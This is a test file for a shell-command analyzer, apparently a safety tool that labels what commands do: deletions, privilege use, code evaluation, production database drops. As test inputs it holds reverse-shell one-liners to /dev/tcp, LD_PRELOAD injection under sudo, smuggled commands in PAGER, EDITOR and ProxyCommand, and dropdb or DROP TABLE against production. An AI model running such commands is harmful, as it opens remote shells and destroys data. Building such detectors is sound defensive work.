import { describe, expect, it } from 'vitest';
import { analyzeShell } from '../../../../src/actions/shell/index.ts';
import { PROJECT, setting } from '../../../support/setting.ts';
import { foundWith } from './run.ts';
import { traceOf } from './trace.ts';

const FILES = {
  [`${PROJECT}/run.sh`]: 'rm "$1" "$0"\n',
  [`${PROJECT}/sub/run.sh`]: 'rm a\n',
  [`${PROJECT}/drop.sql`]: 'DROP TABLE a;',
};
const analyzed = (text: string) => analyzeShell(text, 'bash', setting({ files: FILES }));

describe('what a program runs is run where the program says', () => {
  it.each<[string, readonly string[]]>([
    ['env -C /srv rm a', ['env -C /srv rm a', 'env > rm a in /srv | file.delete /srv/a']],
    ['env -C sub rm a', ['env -C sub rm a', 'env > rm a in ./sub | file.delete ./sub/a']],
    ['env -C "$X" rm a', ['env -C ? rm a', 'env > rm a | file.delete ?a (unknown)']],
    ['sudo -D /srv rm a', ['sudo -D /srv rm a | process.privilege “sudo”', 'sudo > rm a in /srv | file.delete /srv/a']],
    ['cd /srv; nice rm a', ['cd /srv in /srv', 'nice rm a in /srv', 'nice > rm a in /srv | file.delete /srv/a']],
    ['env -C sub sh run.sh', ['env -C sub sh run.sh', 'env > sh run.sh in ./sub', 'env > sh > rm a in ./sub | file.delete ./sub/a']],
    ['git -C /srv rebase -x "rm a"', ['git -C /srv rebase -x rm a | git.local “git rebase”', 'git > rm a in /srv | file.delete /srv/a']],
    [
      'if ls; then cd /srv; fi; sudo rm a',
      [
        'ls',
        'cd /srv in /srv',
        'sudo rm a in /srv | process.privilege “sudo”',
        'sudo > rm a in /srv | file.delete /srv/a',
        'sudo rm a | process.privilege “sudo”',
        'sudo > rm a | file.delete ./a',
      ],
    ],
    [
      'docker run -v /srv:/w -w /w img rm /w/a',
      ['docker run -v /srv:/w -w /w img rm /w/a | infra.create img local “docker run”', 'docker > rm /w/a in /w | file.delete /w/a'],
    ],
    ['ssh h rm /w/a', ['ssh h rm /w/a | net.request h “ssh”', 'ssh > rm /w/a | file.delete /w/a']],
    [
      'docker run -v /srv:/w img sh -c "rm /w/a"',
      [
        'docker run -v /srv:/w img sh -c rm /w/a | infra.create img local “docker run”',
        'docker > sh -c rm /w/a',
        'docker > sh > rm /w/a | file.delete /w/a',
      ],
    ],
  ])('%s', (text, expected) => {
    expect(traceOf(analyzed(text))).toEqual(expected);
  });
});

describe('another shell sees its own arguments, and of the variables what is exported', () => {
  it.each<[string, readonly string[]]>([
    [`sh -c 'rm "$1"'`, ['sh -c rm "$1"', 'sh > rm ? | file.delete ?"$1" (unknown)']],
    [`set -- z; sh -c 'rm "$1"'`, ['set -- z', 'sh -c rm "$1"', 'sh > rm ? | file.delete ?"$1" (unknown)']],
    [`sh -c 'rm "$1" $0' n a`, ['sh -c rm "$1" $0 n a', 'sh > rm a n | file.delete ./a | file.delete ./n']],
    ["sh -c 'rm $0'", ['sh -c rm $0', 'sh > rm bash | file.delete ./bash']],
    ['sh run.sh a', ['sh run.sh a', 'sh > rm a ./run.sh | file.delete ./a | file.delete ./run.sh']],
    ['sh run.sh', ['sh run.sh', 'sh > rm ? ./run.sh | file.delete ?"$1" (unknown) | file.delete ./run.sh']],
    ['set -- z; sh run.sh', ['set -- z', 'sh run.sh', 'sh > rm ? ./run.sh | file.delete ?"$1" (unknown) | file.delete ./run.sh']],
    [
      "echo 'rm $1' | sh -s a",
      ['echo rm $1', 'sh -s a', '(sh) | code.eval literal “sh”', 'sh > rm a | file.delete ./a', 'flows 0>1 0>2 0>3'],
    ],
    [
      "set -- z; echo 'rm $1' | sh",
      ['set -- z', 'echo rm $1', 'sh', '(sh) | code.eval literal “sh”', 'sh > rm ? | file.delete ?$1 (unknown)', 'flows 1>2 1>3 1>4'],
    ],
    ["x=a; sh -c 'rm $x'", ['sh -c rm $x', 'sh > rm ? | file.delete ?$x (unknown)']],
    ["export x=a; sh -c 'rm $x'", ['export x=a', 'sh -c rm $x', 'sh > rm a | file.delete ./a']],
    ["x=a sh -c 'rm $x'", ['x=a sh -c rm $x', 'sh > rm a | file.delete ./a']],
    ["x=b env x=a sh -c 'rm $x'", ['x=b env x=a sh -c rm $x', 'env > x=a sh -c rm $x', 'env > sh > rm a | file.delete ./a']],
    ["export x=a; ssh h 'rm $x'", ['export x=a', 'ssh h rm $x | net.request h “ssh”', 'ssh > rm ? | file.delete ?$x (unknown)']],
    ["if ls; then sh -c 'x=b; x=c; rm $x'; fi", ['ls', 'sh -c x=b; x=c; rm $x', 'sh > rm c | file.delete ./c']],
    ['rm() { ls; }; sudo rm a', ['sudo rm a | process.privilege “sudo”', 'sudo > rm a | file.delete ./a']],
    ["sh -c 'rm $#'", ['sh -c rm $#', 'sh > rm 0 | file.delete ./0']],
    ['set -- z; sh -c \'rm "$@"\'', ['set -- z', 'sh -c rm "$@"', 'sh > rm']],
    ["echo 'rm $#' > x.sh; sh x.sh", ['echo rm $# | file.write ./x.sh truncate', 'sh x.sh', 'sh > rm 0 | file.delete ./0']],
  ])('%s', (text, expected) => {
    expect(traceOf(analyzed(text))).toEqual(expected);
  });
});

describe('text for a shell that a variable holds is marked where the shell is on this machine', () => {
  it.each<[string, readonly string[]]>([
    ['bash -c "$X"', ['bash -c ?', '(bash) | code.eval ?"$X" variable “bash”', '? (bash) | code.eval ?"$X" dynamic “bash”']],
    ['x="rm a"; bash -c "$x"', ['bash -c rm a', '(bash) | code.eval ?"$x" variable “bash”', 'bash > rm a | file.delete ./a']],
    ['bash -c "$(date)"', ['date', 'bash -c ?', '? (bash) | code.eval ?"$(date)" dynamic “bash”', 'flows 0>1 0>2']],
    ['x=$(date); bash -c "$x"', ['date', 'bash -c ?', '? (bash) | code.eval ?"$x" dynamic “bash”', 'flows 0>1 0>2']],
    ['bash -c "rm $X"', ['bash -c rm ?', 'bash > rm ? | file.delete ?? (unknown)']],
    ['ssh h "$X"', ['ssh h ? | net.request h “ssh”', '? (ssh) | code.eval ?"$X" dynamic “ssh”']],
    ['su -c "$X"', ['su -c ? | process.privilege “su”', '(su) | code.eval ?"$X" variable “su”', '? (su) | code.eval ?"$X" dynamic “su”']],
  ])('%s', (text, expected) => {
    expect(traceOf(analyzed(text))).toEqual(expected);
  });
});

describe('what is fed to a program is fed to what it runs, unless it takes that for itself', () => {
  it.each<[string, readonly string[]]>([
    [
      'echo "rm a" | sudo sh',
      [
        'echo rm a',
        'sudo sh | process.privilege “sudo”',
        'sudo > sh',
        'sudo > (sh) | code.eval literal “sh”',
        'sudo > sh > rm a | file.delete ./a',
        'flows 0>1 0>2 0>3 0>4',
      ],
    ],
    [
      'echo "rm a" | sh -c sh',
      [
        'echo rm a',
        'sh -c sh',
        'sh > sh',
        'sh > (sh) | code.eval literal “sh”',
        'sh > sh > rm a | file.delete ./a',
        'flows 0>1 0>2 0>3 0>4',
      ],
    ],
    [
      'echo "rm a" | xargs sh',
      ['echo rm a', 'xargs sh', 'xargs > sh rm a', 'xargs > (sh) | opaque ./rm missing “it is not there”', 'flows 0>1 0>2 0>3'],
    ],
    [
      'echo "rm a" | find . -exec sh \\;',
      ['echo rm a', 'find . -exec sh ; | file.list . recursive', 'find > sh | exec interactive “sh”', 'flows 0>1 0>2'],
    ],
    ['sudo sh', ['sudo sh | process.privilege “sudo”', 'sudo > sh | exec interactive “sh”']],
  ])('%s', (text, expected) => {
    expect(traceOf(analyzed(text))).toEqual(expected);
  });
});

describe('a socket of the outer command is one of the inner', () => {
  it.each<[string, readonly string[]]>([
    [
      'sudo bash -i >& /dev/tcp/h.test/1 0>&1',
      [
        'sudo bash -i | net.request h.test raw-socket | process.privilege “sudo”',
        'sudo > bash -i | exec interactive “bash” | net.request raw-socket reverse-shell',
        'flows 0>1 1>0',
      ],
    ],
    [
      'sudo bash -i > log',
      [
        'sudo bash -i | file.write ./log truncate | process.privilege “sudo”',
        'sudo > bash -i | exec interactive “bash”',
        'flows 1>0',
        'made wrote-script ./log',
      ],
    ],
    [
      'exec 5<>/dev/tcp/h.test/1; sudo sh <&5',
      [
        'exec | net.request h.test raw-socket',
        'sudo sh | net.request ?>&5 (unknown) raw-socket | process.privilege “sudo”',
        'sudo > sh | net.request raw-socket reverse-shell',
        'sudo > (sh) | code.eval downloaded “sh”',
        'flows 1>2 2>1 1>3 3>1',
      ],
    ],
  ])('%s', (text, expected) => {
    expect(traceOf(analyzed(text))).toEqual(expected);
  });
});

describe('what the environment loads is loaded by the inner command, too', () => {
  it.each<[string, readonly string[]]>([
    [
      "PAGER='rm a' sudo ls",
      [
        'PAGER=rm a sudo ls | process.privilege “sudo”',
        'PAGER > rm a | file.delete ./a',
        'sudo > PAGER=rm a ls',
        'sudo > PAGER > rm a | file.delete ./a',
      ],
    ],
    [
      'LD_PRELOAD=./x.so sudo ls',
      [
        'LD_PRELOAD=./x.so sudo ls | process.privilege “sudo” | code.eval ./x.so environment “LD_PRELOAD”',
        'sudo > LD_PRELOAD=./x.so ls | code.eval ./x.so environment “LD_PRELOAD”',
      ],
    ],
    [
      'sudo LD_PRELOAD=./x.so ls',
      ['sudo LD_PRELOAD=./x.so ls | process.privilege “sudo”', 'sudo > LD_PRELOAD=./x.so ls | code.eval ./x.so environment “LD_PRELOAD”'],
    ],
    [
      'export LD_PRELOAD=./x.so; sudo ls',
      [
        'export LD_PRELOAD=./x.so | code.eval ./x.so environment “LD_PRELOAD”',
        'sudo ls | process.privilege “sudo”',
        'sudo > LD_PRELOAD=./x.so ls | code.eval ./x.so environment “LD_PRELOAD”',
      ],
    ],
  ])('%s', (text, expected) => {
    expect(traceOf(analyzed(text))).toEqual(expected);
  });
});

describe('what is sent through a client lands where the client works, and what it runs here does not', () => {
  it.each<[string, readonly string[]]>([
    [
      'psql -h db.prod.test -c "drop table a"',
      [
        'psql -h db.prod.test -c drop table a',
        'psql > psql -h db.prod.test -c drop table a (postgresql) | db.drop a production “drop table a”',
      ],
    ],
    ['psql -h db.prod.test -f drop.sql', ['psql -h db.prod.test -f drop.sql', 'psql > (postgresql) | db.drop a production “drop table a”']],
    [
      'echo "drop table a" | psql -h db.prod.test',
      [
        'echo drop table a',
        'psql -h db.prod.test',
        'psql > psql -h db.prod.test (postgresql) | db.drop a production “drop table a”',
        'flows 0>1 0>2',
      ],
    ],
    [
      "kubectl --context prod exec p -- sh -c 'dropdb a'",
      [
        'kubectl --context prod exec p -- sh -c dropdb a | infra.exec p production “kubectl exec”',
        'kubectl > sh -c dropdb a',
        'kubectl > sh > dropdb a | db.drop a production “dropdb a”',
      ],
    ],
    ['aws-vault exec prod -- dropdb a', ['aws-vault exec prod -- dropdb a', 'aws-vault > dropdb a | db.drop a production “dropdb a”']],
    [
      "aws-vault exec prod -- sh -c 'dropdb a'",
      [
        'aws-vault exec prod -- sh -c dropdb a',
        'aws-vault > sh -c dropdb a',
        'aws-vault > sh > dropdb a | db.drop a production “dropdb a”',
      ],
    ],
    [
      "ssh -o ProxyCommand='dropdb a' db.prod.test",
      [
        'ssh -o ProxyCommand=dropdb a db.prod.test | net.request db.prod.test “ssh” | exec interactive “ssh”',
        'ssh > dropdb a | db.drop a “dropdb a”',
      ],
    ],
    [
      "EDITOR='dropdb a' kubectl --context prod edit cm x",
      [
        'EDITOR=dropdb a kubectl --context prod edit cm x | infra.change cm production “kubectl edit”',
        'EDITOR > dropdb a | db.drop a “dropdb a”',
      ],
    ],
    ['AWS_PROFILE=prod uv run dropdb a', ['AWS_PROFILE=prod uv run dropdb a', 'uv > dropdb a | db.drop a “dropdb a”']],
    ['dropdb a', ['dropdb a | db.drop a “dropdb a”']],
    ['psql shop_test -f drop.sql', ['psql shop_test -f drop.sql', 'psql > (postgresql) | db.drop a disposable “drop table a”']],
    ['psql shop -f drop.sql', ['psql shop -f drop.sql', 'psql > (postgresql) | db.drop a “drop table a”']],
    [
      'psql shop_test -c "drop table a"',
      ['psql shop_test -c drop table a', 'psql > psql shop_test -c drop table a (postgresql) | db.drop a disposable “drop table a”'],
    ],
    [
      'kubectl --context prod exec p -- env A=1 dropdb a',
      [
        'kubectl --context prod exec p -- env A=1 dropdb a | infra.exec p production “kubectl exec”',
        'kubectl > env A=1 dropdb a',
        'kubectl > env > A=1 dropdb a | db.drop a production “dropdb a”',
      ],
    ],
  ])('%s', (text, expected) => {
    expect(traceOf(analyzed(text))).toEqual(expected);
  });
});

it('no more runs are followed than there is work left for, and the analysis says so', () => {
  expect(traceOf(foundWith({ runs: 2 }, 'nice ls; nice ls'))).toEqual(['nice ls', 'nice > ls', 'nice ls', 'nice > ls']);
  expect(traceOf(foundWith({ runs: 1 }, 'nice ls; nice ls'))).toEqual([
    'nice ls',
    'nice > ls',
    'nice ls',
    'incomplete: too much work: runs',
  ]);
});
